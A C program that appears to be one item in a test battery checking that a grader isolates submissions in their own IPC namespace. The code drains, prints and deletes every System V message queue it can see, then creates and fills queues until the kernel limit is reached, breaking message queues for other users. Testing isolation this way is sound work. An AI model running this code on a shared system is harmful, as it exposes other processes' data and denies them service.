/*
 * Attack 22 (exhaust the kernel's queues): first take every queue we can see that is not ours
 * (read its messages, print them, remove it), then create queues until msgget fails (ENOSPC:
 * MSGMNI reached), then fill each with 8 KiB messages until full, and leave them all behind.
 * In the host's IPC namespace that breaks every other user of message queues on the machine.
 * The grader must run the program in an IPC namespace of its own: the battery's decoy queue
 * keeps its message, no queue is left on the host, and the grader itself keeps working.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/msg.h>

struct message {
	long mtype;
	char mtext[8192];
};

static struct message msg;

int main(void)
{
	FILE *f = fopen("/proc/sysvipc/msg", "r");
	char line[512];
	int stolen = 0;
	while (f && fgets(line, sizeof line, f)) {
		int key, id;
		if (sscanf(line, "%d %d", &key, &id) != 2)
			continue;
		ssize_t n;
		while ((n = msgrcv(id, &msg, sizeof msg.mtext, 0, IPC_NOWAIT | MSG_NOERROR)) >= 0)
			printf("stole from queue %d (key 0x%08x): %.*s\n", id, (unsigned)key,
			       (int)n, msg.mtext);
		stolen += msgctl(id, IPC_RMID, NULL) == 0;
	}
	if (f)
		fclose(f);
	int made = 0, max_id = -1;
	for (;;) {
		int id = msgget(IPC_PRIVATE, IPC_CREAT | 0600);
		if (id < 0)
			break;
		made++;
		max_id = id > max_id ? id : max_id;
	}
	printf("removed %d queues, created %d until: %s\n", stolen, made, strerror(errno));
	fflush(stdout);
	memset(msg.mtext, 'q', sizeof msg.mtext);
	msg.mtype = 1;
	long sent = 0;
	for (int id = 0; id <= max_id; id++)
		while (msgsnd(id, &msg, sizeof msg.mtext, IPC_NOWAIT) == 0)
			sent++;
	printf("%ld messages of 8 KiB queued\n", sent);
	return 1;
}
